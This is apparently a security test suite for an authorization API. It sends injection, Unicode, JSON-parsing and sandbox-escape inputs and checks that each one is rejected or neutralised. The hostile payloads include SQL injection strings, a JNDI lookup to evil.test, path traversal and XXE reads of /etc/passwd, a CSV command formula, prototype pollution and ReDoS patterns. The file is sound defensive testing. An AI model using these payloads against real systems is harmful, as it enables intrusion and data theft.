import { randomUUID } from 'node:crypto'
import { afterAll, beforeAll } from 'vitest'
import { type Ask, eventually, startService, type TestService } from '../support/service.ts'
import { attacks } from './attack.ts'

// What stands in bodies, paths and queries.

let verdict: TestService
beforeAll(async () => {
  verdict = await startService()
})
afterAll(() => verdict.close())

const put = (path: string, body: unknown, headers: Ask['headers'] = {}) => verdict.ask(`PUT ${path}`, { body, headers })
const get = (path: string) => verdict.ask(`GET ${path}`)
const raw = (body: string, headers: Ask['headers'] = {}) => verdict.ask('POST /v1/authorize', { body, headers })
const encoded = encodeURIComponent
const name = () => `n-${randomUUID().slice(0, 8)}`
const question = (more: object = {}) => ({
  subject: { type: 'user', id: 'ann' },
  action: { name: 'read' },
  resource: { type: 'doc', id: '1' },
  ...more,
})
const ask = (more: object = {}) => verdict.ask('POST /v1/authorize', { body: question(more) })
const rule = (condition: string, more: object = {}) => ({
  effect: 'allow',
  subjects: [{ any: true }],
  actions: ['read'],
  resources: [{ type: 'cel' }],
  condition,
  ...more,
})
const cel = (condition: string) => put(`/v1/rules/${name()}`, rule(condition))

/** What is decided by this condition alone, of a request with this context. */
async function decided(condition: string, context: object = {}) {
  const type = name()
  const path = `/v1/rules/${name()}`
  const written = await put(path, rule(condition, { resources: [{ type }] }))
  return written.status === 201 ? ask({ resource: { type, id: '1' }, context }) : written
}

/** Stored under this id and found again under it, and under no other. */
async function kept(id: string) {
  const written = await put(`/v1/entities/user/${encoded(id)}`, { properties: { marked: true } })
  if (written.status >= 400) return written
  const { body } = await get(`/v1/entities/user/${encoded(id)}`)
  return body.id === id ? written : `another id: ${JSON.stringify(body.id)}`
}

const SQL = `Robert'); drop table entities;--`
attacks('injection', [
  ['SQL in an id', '201', () => kept(SQL)],
  ['SQL in the name of a role', '400 /name', () => put(`/v1/roles/${encoded(SQL)}`, {})],
  ['SQL in a filter', '200', () => get(`/v1/assignments?subject_id=${encoded("x' or '1'='1")}`)],
  [
    'SQL in a filter of the audit',
    '200',
    async () => {
      const { status, body } = await get(`/v1/audit?actor=${encoded("x' or '1'='1")}`)
      return body.items.length === 0 ? String(status) : 'records of others'
    },
  ],
  [
    'a wildcard of SQL in a filter',
    '200',
    async () => {
      const { status, body } = await get('/v1/audit?subject_id=%25')
      return body.items.length === 0 ? String(status) : 'records of others'
    },
  ],
  ['SQL in a limit', '400 /limit', () => get(`/v1/roles?limit=${encoded('1; drop table roles')}`)],
  ['SQL in an order', '400 /order', () => get(`/v1/audit?order=${encoded('desc; drop table audit')}`)],
  [
    'SQL in a cursor',
    '400 /cursor',
    () => get(`/v1/roles?cursor=${Buffer.from('["a\' or 1=1"],1').toString('base64url')}`),
  ],
  ['SQL in a reason', '201', () => put(`/v1/roles/${name()}`, {}, { 'verdict-reason': SQL })],
  ['SQL in a property', '201', () => put(`/v1/entities/user/${name()}`, { properties: { a: SQL } })],
  [
    'a path of JSON in the name of a property',
    '201',
    () => put(`/v1/entities/user/${name()}`, { properties: { "a'->>'b": 1, '{}': 2, '$.x': 3 } }),
  ],
  ['a template in an id', '201', () => kept('$' + '{7*7}{{7*7}}<%= 7*7 %>')],
  ['a path in an id', '201', () => kept('../../etc/passwd')],
  ['a look-up by name of a logger', '201', () => kept('$' + '{jndi:ldap://evil.test/a}')],
  [
    'script in the detail of a problem',
    '404',
    async () => {
      const reply = await get(`/v1/entities/user/${encoded('<script>alert(1)</script>')}`)
      const type = reply.headers.get('content-type') ?? ''
      return type.startsWith('application/problem+json') && reply.headers.get('x-content-type-options') === 'nosniff'
        ? reply
        : type
    },
  ],
  ['a line break in an id, for the log', '400 /id', () => put(`/v1/entities/user/${encoded('x\n{"level":30}')}`, {})],
  ['colours of a terminal in an id', '400 /id', () => put(`/v1/entities/user/${encoded('x\u001b[31m')}`, {})],
  ['a line break in a question', '400 /subject/id', () => ask({ subject: { type: 'user', id: 'ann\nroot' } })],
  [
    'a formula in the export of the audit',
    '200',
    async () => {
      const id = '=cmd|calc!A1'
      await ask({ subject: { type: 'user', id } })
      const { status, body } = await eventually(
        () => verdict.ask(`GET /v1/audit/export?format=csv&subject_id=${encoded(id)}`),
        (reply) => String(reply.body).includes('cmd|calc'),
      )
      return String(body).includes('"=cmd') ? 'a formula' : String(status)
    },
  ],
  ['a process in a condition', '422 /condition', () => cel('process.exit(1) == 1')],
  ['the constructor of a text in a condition', '422 /condition', () => cel('subject.id.constructor == "x"')],
  ['the prototype of the context in a condition', '200 denied', () => decided('context.__proto__.polluted == true')],
  ['what objects have of themselves in a condition', '200 denied', () => decided('has(context.toString)')],
  ['the same by an index', '200 denied', () => decided('context["constructor"]["name"] == "Object"')],
  ['code in a condition', '422 /condition', () => cel('(() => 1)() == 1')],
  ['a module in a condition', '422 /condition', () => cel('require("fs") != null')],
  ['a function that is not there', '422 /condition', () => cel('eval("1")')],
  ['an assignment in a condition', '422 /condition', () => cel('subject.id = "root"')],
  ['a role of Verdict in a condition', '200 denied', () => decided('"pdp:admin" in subject.roles')],
  ['a condition that nests without end', '422 /condition', () => cel(`${'('.repeat(3000)}true${')'.repeat(3000)}`)],
  [
    'a pattern that goes back and back',
    '200 denied',
    () => decided('context.a.matches("^(a+)+$")', { a: `${'a'.repeat(30_000)}!` }),
  ],
  [
    'loops in loops',
    '200 denied',
    () => decided('context.l.all(a, context.l.all(b, a + b >= 0.0))', { l: Array.from({ length: 5000 }, (_, n) => n) }),
  ],
  ['a condition in the context', '200 denied', () => decided('context.a', { a: 'true' })],
  [
    'a glob that goes back and back',
    '200 denied',
    async () => {
      const type = name()
      await put(`/v1/rules/${name()}`, rule('true', { resources: [{ type, id: '*a'.repeat(60) }] }))
      return ask({ resource: { type, id: `${'a'.repeat(499)}b` } })
    },
  ],
])

attacks('Unicode', [
  [
    'half a surrogate in a body',
    '400',
    () => raw('{"subject":{"type":"user","id":"\\ud800"},"action":{"name":"x"},"resource":{"type":"d","id":"1"}}'),
  ],
  ['the other half, as the name of a member', '400', () => raw('{"\\udc00":1}')],
  [
    'NUL in a body',
    '400',
    () => raw('{"subject":{"type":"user","id":"a\\u0000"},"action":{"name":"x"},"resource":{"type":"d","id":"1"}}'),
  ],
  ['NUL in a path', '400 /id', () => put('/v1/entities/user/a%00', {})],
  ['half a surrogate in a path', '400', () => get('/v1/entities/user/%ED%A0%80')],
  ['a letter in more bytes than it needs', '400', () => get('/v1/entities/user/%C1%A1')],
  ['half a letter in a path', '400', () => get('/v1/entities/user/%C3')],
  ['a percent that is none', '400', () => get('/v1/entities/user/%zz')],
  ['half a letter in a query', '400 /subject_id', () => get('/v1/audit?subject_id=%ff')],
  ['half a surrogate in a query', '400 /role', () => get('/v1/assignments?role=%ED%A0%80')],
  ['a percent that is none in a query', '400 /action', () => get('/v1/rules?effect=deny&action=100%')],
  ['half a letter in the name of a filter', '400', () => get('/v1/audit?subject_id%ff=x')],
  ['a mark of byte order before the body', '400', () => raw(`\ufeff${JSON.stringify(question())}`)],
  [
    'an id composed is not the one that is not',
    '404',
    async () => {
      await put(`/v1/entities/user/${encoded('café'.normalize('NFC'))}`, {})
      return get(`/v1/entities/user/${encoded('café'.normalize('NFD'))}`)
    },
  ],
  [
    'an id in full width is another',
    '404',
    async () => {
      await put('/v1/entities/user/plain', {})
      return get(`/v1/entities/user/${encoded('ｐｌａｉｎ')}`)
    },
  ],
  [
    'an id in Cyrillic is another',
    '404',
    async () => {
      await put('/v1/entities/user/alice', {})
      return get(`/v1/entities/user/${encoded('аlice')}`)
    },
  ],
  [
    'an id in capitals is another',
    '404',
    async () => {
      await put('/v1/entities/user/lower', {})
      return get('/v1/entities/user/LOWER')
    },
  ],
  [
    'an id with a width of zero in it is another',
    '404',
    async () => {
      await put('/v1/entities/user/joined', {})
      return get(`/v1/entities/user/${encoded('joi\u200bned')}`)
    },
  ],
  [
    'a role by a name that looks the same',
    '200 denied',
    async () => {
      const role = name()
      await put(`/v1/roles/${role}`, { permissions: [{ actions: ['read'], resources: [{ type: 'doc' }] }] })
      await verdict.ask('POST /v1/assignments', { body: { subject: { type: 'user', id: 'carla' }, role } })
      return ask({ subject: { type: 'user', id: 'сarla' } })
    },
  ],
  ['513 characters', '400 /subject/id', () => ask({ subject: { type: 'user', id: 'x'.repeat(513) } })],
  ['nothing for an id', '400 /subject/id', () => ask({ subject: { type: 'user', id: '' } })],
  [
    'a control character of the second set',
    '400 /subject/id',
    () => ask({ subject: { type: 'user', id: 'a\u0085b' } }),
  ],
])

const plain = JSON.stringify(question())
attacks('JSON', [
  ['the question itself, so that the others mean something', '200 denied', () => raw(plain)],
  ['a member twice', '400', () => raw(plain.replace('{"type":"user"', '{"type":"user","type":"admin"'))],
  [
    'a member twice, once in escapes',
    '400',
    () => raw(plain.replace('{"type":"user"', '{"type":"user","\\u0074ype":"admin"')),
  ],
  ['a question twice', '400', () => raw(`${plain}${plain}`)],
  ['__proto__', '400', () => raw(plain.replace('{', '{"__proto__":{"admin":true},'))],
  ['__proto__ in escapes', '400', () => raw(plain.replace('{', '{"__pr\\u006fto__":{},'))],
  [
    '__proto__ in properties that are stored',
    '400',
    () => put(`/v1/entities/user/${name()}`, '{"properties":{"__proto__":{"a":1}}}'),
  ],
  [
    'constructor and prototype as properties',
    '201',
    () => put(`/v1/entities/user/${name()}`, { properties: { constructor: { prototype: { polluted: true } } } }),
  ],
  ['33 levels', '400', () => raw(plain.replace('{', `{"context":${'{"a":'.repeat(32)}1${'}'.repeat(32)},`))],
  ['100,000 levels', '400', () => raw('['.repeat(100_000))],
  ['a number beyond all', '400', () => raw(plain.replace('{', '{"context":{"a":1e400},'))],
  ['a whole number that is not exact', '400', () => raw(plain.replace('{', '{"context":{"a":9007199254740993},'))],
  ['NaN', '400', () => raw(plain.replace('{', '{"context":{"a":NaN},'))],
  ['a comment', '400', () => raw(plain.replace('{', '{/**/'))],
  ['a comma too many', '400', () => raw(plain.replace(/}$/, ',}'))],
  ['single quotes', '400', () => raw(plain.replaceAll('"', "'"))],
  ['an empty body', '400', () => raw('')],
  ['a list for an object', '400', () => raw(`[${plain}]`)],
  ['null', '400', () => raw('null')],
  ['a number for an id', '400 /subject/id', () => ask({ subject: { type: 'user', id: 1 } })],
  ['a list for an id', '400 /subject/id', () => ask({ subject: { type: 'user', id: ['ann'] } })],
  ['null for an id', '400 /subject/id', () => ask({ subject: { type: 'user', id: null } })],
  ['true for a type', '400 /subject/type', () => ask({ subject: { type: true, id: 'ann' } })],
  ['a text for the context', '400 /context', () => ask({ context: 'x' })],
  [
    'parents in a request',
    '200 denied',
    () => ask({ subject: { type: 'user', id: 'ann', parents: [{ type: 'group', id: 'admins' }], disabled: false } }),
  ],
  ['an unknown member in a document', '400 /color', () => put(`/v1/roles/${name()}`, { color: 'red' })],
  ['as text/plain', '415', () => raw(plain, { 'content-type': 'text/plain' })],
  ['as a form', '415', () => raw('subject=ann', { 'content-type': 'application/x-www-form-urlencoded' })],
  ['as multipart', '415', () => raw('--x--', { 'content-type': 'multipart/form-data; boundary=x' })],
  [
    'as XML',
    '415',
    () =>
      raw('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', { 'content-type': 'application/xml' }),
  ],
  ['packed', '415', () => raw(plain, { 'content-encoding': 'gzip' })],
  ['larger than the route takes', '413', () => raw(`{"context":{"a":"${'x'.repeat(300_000)}"}}`)],
])
